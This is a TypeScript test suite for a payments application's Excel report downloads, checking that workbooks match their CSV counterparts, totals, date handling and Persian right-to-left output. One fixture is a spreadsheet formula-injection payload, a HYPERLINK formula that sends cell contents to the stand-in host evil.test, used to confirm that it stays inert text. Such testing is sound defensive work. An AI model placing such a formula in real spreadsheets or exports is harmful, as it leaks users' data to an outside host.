import { sql } from "drizzle-orm";
import ExcelJS from "exceljs";
import { rows } from "../../../db/client.server";
import { neutralizeFormula } from "../../../app/lib/csv-safety";
import { createPayment } from "../../../app/modules/payments/payments.server";
import { REPORTS } from "../../../app/modules/exports/registry.server";
import { loader } from "../../../app/routes/reports.$report";
import { exportReport } from "../../../app/web/exports/download.server";
import { getOptionalContext } from "../../../app/web/guard.server";
import { as, signIn, type SignedIn } from "../../support/auth";
import { useTestDatabase } from "../../support/db";
import { download, minorOf, readCsv } from "./helpers";
import { CARD_EXP_YEAR } from "../../support/cards";

/**
 * Excel workbooks of every report, read back with exceljs as a spreadsheet program reads
 * them: every cell equals the CSV's (numbers as numbers, date-times as date cells on the
 * report's wall clock, text as typed with no formula guard), a bold frozen header, widths
 * that fit, totals that add up to the minor unit, right to left for Persian readers,
 * Persian text intact, and the same audit entry as a CSV download.
 */
const t = useTestDatabase({ seed: "demo" });

const COFFEE = { merchantId: "mer_demo_coffee" };
const IR_CARD = { number: "6037990000000006", expMonth: 12, expYear: CARD_EXP_YEAR, cvc: "123" };
const PERSIAN = 'قهوه اسپرسو، "ویژه" & <شیر>';
const HOSTILE = '=HYPERLINK("http://evil.test/?x="&A1,"Click")';

let owner: SignedIn;
let persian: SignedIn;
let northwind: SignedIn;

interface Workbook {
  status: number;
  headers: Headers;
  wb: ExcelJS.Workbook;
  ws: ExcelJS.Worksheet;
}

async function workbook(user: SignedIn, path: string): Promise<Workbook> {
  const url = new URL(`http://localhost${path}`);
  const res = (await loader({ request: as(user, path), params: { report: url.pathname.split("/").pop()! }, context: {} })) as Response;
  const body = Buffer.from(await res.arrayBuffer());
  expect(res.status, body.toString("utf8").slice(0, 300)).toBe(200);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as never);
  return { status: res.status, headers: res.headers, wb, ws: wb.worksheets[0]! };
}

const pad = (n: number, w = 2) => String(n).padStart(w, "0");
/** A date cell as exceljs reads it (the serial as a UTC Date) back to the CSV's wall-clock text. */
function wallText(d: Date, withTime: boolean): string {
  const day = `${pad(d.getUTCFullYear(), 4)}-${pad(d.getUTCMonth() + 1)}-${pad(d.getUTCDate())}`;
  return withTime ? `${day} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}` : day;
}

/** The workbook's data rows (without the totals) equal the CSV's records cell for cell; returns the data row count. */
function expectSameCells(ws: ExcelJS.Worksheet, csvBody: string, kinds: string[], label: string): number {
  const { header, records } = readCsv(csvBody);
  const headerRow = ws.getRow(1);
  expect(header.map((_, i) => headerRow.getCell(i + 1).value), label).toEqual(header);
  for (const [r, record] of records.entries()) {
    const row = ws.getRow(r + 2);
    header.forEach((h, i) => {
      const csv = record[h]!;
      const cell = row.getCell(i + 1);
      const v = cell.value;
      const where = `${label} row ${r + 2} ${h}`;
      if (csv === "") {
        expect(v === null || v === undefined || v === "", where).toBe(true);
        return;
      }
      switch (kinds[i]) {
        case "amount":
        case "integer":
          expect(typeof v, where).toBe("number");
          expect(v, where).toBe(Number(csv));
          break;
        case "local":
        case "utc":
          expect(v, where).toBeInstanceOf(Date);
          expect(wallText(v as Date, true), where).toBe(csv);
          expect(cell.numFmt, where).toBe("yyyy-mm-dd hh:mm:ss");
          break;
        case "date":
          expect(v, where).toBeInstanceOf(Date);
          expect(wallText(v as Date, false), where).toBe(csv);
          break;
        default:
          // Text as typed: the CSV's formula guard is the only difference.
          expect(typeof v, where).toBe("string");
          expect(neutralizeFormula(v as string), where).toBe(csv);
      }
    });
  }
  return records.length;
}

function kindsOf(id: keyof typeof REPORTS, keys: string[], jalali: boolean): string[] {
  const byKey = new Map(REPORTS[id].columns.map((c) => [c.key, c.kind as string]));
  return keys.flatMap((k) => {
    const kind = byKey.get(k)!;
    return jalali && (kind === "local" || kind === "date") ? [kind, "text"] : [kind];
  });
}

beforeAll(async () => {
  owner = await signIn("owner@coffee.test");
  persian = await signIn("fa@coffee.test");
  northwind = await signIn("owner@northwind.test");
  for (const description of [PERSIAN, HOSTILE]) {
    const r = await createPayment(COFFEE, { amount: 1_250_000n, currency: "IRR", card: IR_CARD, description }, { terminalId: "term_coffee_web", now: new Date(Date.now() - 3_600_000) });
    if (!r.ok) throw new Error(JSON.stringify(r));
  }
}, 60_000);

const QUERIES: Record<keyof typeof REPORTS, string> = {
  payments: "range=all",
  refunds: "range=all",
  payouts: "range=all",
  "payout-reconciliation": "arrival_from=2000-01-01&arrival_to=2100-01-01",
  "balance-summary": "from=2000-01-01&to=2100-01-01",
  "audit-log": "action=auth.login",
  subscriptions: "range=all",
  invoices: "range=all",
};

describe("Excel workbooks: /reports/<report>.xlsx", () => {
  it("every report's workbook equals its CSV cell for cell on the demo ledger, every column, both merchants, Jalali on and off", async () => {
    for (const user of [owner, northwind]) {
      for (const id of Object.keys(REPORTS) as (keyof typeof REPORTS)[]) {
        for (const jalali of [false, true]) {
          const keys = REPORTS[id].columns.map((c) => c.key);
          const q = `${QUERIES[id]}&columns=${keys.join(",")}&jalali=${jalali ? 1 : 0}&excel=0`;
          const csv = await download(user, `/reports/${id}.csv?${q}`);
          expect(csv.status).toBe(200);
          const { ws, headers } = await workbook(user, `/reports/${id}.xlsx?${q}`);
          expect(headers.get("content-type")).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
          expect(headers.get("content-disposition")).toMatch(new RegExp(`^attachment; filename="${id}_.*\\.xlsx"`));
          const n = expectSameCells(ws, csv.body, kindsOf(id, keys, jalali), `${user === owner ? "coffee" : "northwind"} ${id} jalali=${jalali}`);
          expect(n, `${id} has rows`).toBeGreaterThan(0);
        }
      }
    }
  }, 180_000);

  it("amounts in the currency's decimals, a totals row that adds up to the minor unit, as a live formula", async () => {
    const q = "range=all&columns=id,currency,amount,fee,net,description&tz=America/New_York";
    const csv = readCsv((await download(northwind, `/reports/payments.csv?${q}`)).body);
    const { ws } = await workbook(northwind, `/reports/payments.xlsx?${q}`);
    const n = csv.records.length;
    expect(ws.getRow(2).getCell(3).numFmt).toBe("#,##0.00");
    const total = ws.getRow(n + 2);
    expect(total.getCell(1).value).toBe("Total");
    expect(total.getCell(1).font?.bold).toBe(true);
    for (const [col, key] of [[3, "amount"], [4, "fee"], [5, "net"]] as const) {
      const cell = total.getCell(col).value as { formula: string; result: number };
      const letter = String.fromCharCode(64 + col);
      expect(cell.formula).toBe(`SUBTOTAL(9,${letter}2:${letter}${n + 1})`);
      const exact = csv.records.reduce((s, r) => s + minorOf(r[key]!, 2), 0n);
      expect(Math.round(cell.result * 100)).toBe(Number(exact));
    }
    // Rials have no decimals; a Tehran workbook's totals row is in whole rials.
    const { ws: irr } = await workbook(owner, "/reports/payments.xlsx?range=all&columns=id,amount,status");
    expect(irr.getRow(2).getCell(2).numFmt).toBe("#,##0");
  });

  it("text cells are text as typed: no formula guard, Persian and markup intact", async () => {
    const { ws } = await workbook(owner, "/reports/payments.xlsx?range=all&columns=id,description&excel=1");
    const texts: unknown[] = [];
    ws.eachRow((row) => texts.push(row.getCell(2).value));
    expect(texts).toContain(PERSIAN);
    expect(texts).toContain(HOSTILE);
    expect(texts.some((v) => typeof v === "string" && v.startsWith("'"))).toBe(false);
    // A text cell, never a formula: exceljs would read a formula as { formula }.
    ws.eachRow((row) => expect(typeof row.getCell(2).value === "object" && row.getCell(2).value !== null).toBe(false));
  });

  it("a bold, frozen header, widths that fit, right to left for a Persian reader, Jalali columns as text", async () => {
    const en = await workbook(owner, "/reports/payments.xlsx?range=all&columns=id,created,amount,description");
    expect(en.ws.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(en.ws.views[0]!.rightToLeft ?? false).toBe(false);
    expect(en.ws.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(en.ws.getColumn(2).width).toBeGreaterThanOrEqual(21);
    expect(en.ws.getColumn(1).width).toBeGreaterThanOrEqual("pay_".length + 10);

    const fa = await workbook(persian, "/reports/payments.xlsx?range=all&columns=id,created,amount");
    expect(fa.ws.views[0]).toMatchObject({ state: "frozen", ySplit: 1, rightToLeft: true });
    // A Persian reader gets the Jalali twin by default: text such as "1404/09/15 10:00:00".
    expect(fa.ws.getRow(1).getCell(3).value).toBe("created_jalali (Asia/Tehran)");
    expect(fa.ws.getRow(2).getCell(3).value).toMatch(/^1[34]\d\d\/\d\d\/\d\d \d\d:\d\d:\d\d$/);
    // The totals row is labelled in the reader's language; the header keeps the machine names (as the CSV's).
    expect(fa.ws.getRow(1).getCell(1).value).toBe("id");
    const last = fa.ws.getRow(fa.ws.rowCount);
    expect(last.getCell(1).value).toBe("جمع");
    expect(last.getCell(1).font?.bold).toBe(true);
    expect(typeof (last.getCell(4).value as { result?: unknown }).result).toBe("number");
  });

  it("date-time cells are the report zone's wall clock, with the UTC twin as in the CSV", async () => {
    const q = "range=all&columns=id,created,created_utc&sort=created";
    const csv = readCsv((await download(owner, `/reports/payments.csv?${q}&tz=America/New_York`)).body);
    const { ws } = await workbook(owner, `/reports/payments.xlsx?${q}&tz=America/New_York`);
    expect(ws.getRow(1).getCell(2).value).toBe("created (America/New_York)");
    const first = csv.records[0]!;
    expect(wallText(ws.getRow(2).getCell(2).value as Date, true)).toBe(first["created (America/New_York)"]);
    expect(wallText(ws.getRow(2).getCell(3).value as Date, true)).toBe(first.created_utc);
  });

  it("the reads walk every report in keyset steps: any batch size gives the same rows (CSV and workbook alike)", async () => {
    const ctx = (await getOptionalContext(as(owner, "/reports")))!;
    for (const id of ["payout-reconciliation", "payments", "refunds"] as const) {
      const path = `/reports/${id}.csv?${QUERIES[id]}&columns=${REPORTS[id].columns.map((c) => c.key).join(",")}`;
      const big = await (await exportReport(ctx, id, as(owner, path), { copy: false, batchSize: 5000 })).text();
      const small = await (await exportReport(ctx, id, as(owner, path), { copy: false, batchSize: 7 })).text();
      expect(small, id).toBe(big);
      expect(big.split("\r\n").length, id).toBeGreaterThan(20);
    }
  });

  it("is audited like a CSV download, and a bad parameter is a 400 naming the field", async () => {
    const { ws } = await workbook(owner, "/reports/refunds.xlsx?range=all");
    const [e] = await rows<{ details: Record<string, unknown> | string; outcome: string }>(
      t.db,
      sql`select details, outcome::text as outcome from audit_events where action = 'export.download' order by id desc limit 1`,
    );
    const details = (typeof e!.details === "string" ? JSON.parse(e!.details) : e!.details) as Record<string, unknown>;
    expect(e!.outcome).toBe("success");
    expect(details).toMatchObject({ report: "refunds", format: "xlsx", rendering: "workbook", completed: true });
    let dataRows = 0;
    ws.eachRow((row, n) => {
      if (n > 1 && row.getCell(1).value !== "Total") dataRows++;
    });
    expect(details.rows).toBe(dataRows);

    const bad = (await loader({ request: as(owner, "/reports/payments.xlsx?tz=Mars/Olympus"), params: { report: "payments.xlsx" }, context: {} })) as Response;
    expect(bad.status).toBe(400);
    expect(await bad.text()).toMatch(/^tz: "Mars\/Olympus" is not a time zone/);
    const missing = await loader({ request: as(owner, "/reports/nothing.xlsx"), params: { report: "nothing.xlsx" }, context: {} }).catch((r: Response) => r);
    expect((missing as Response).status).toBe(404);
  });
});
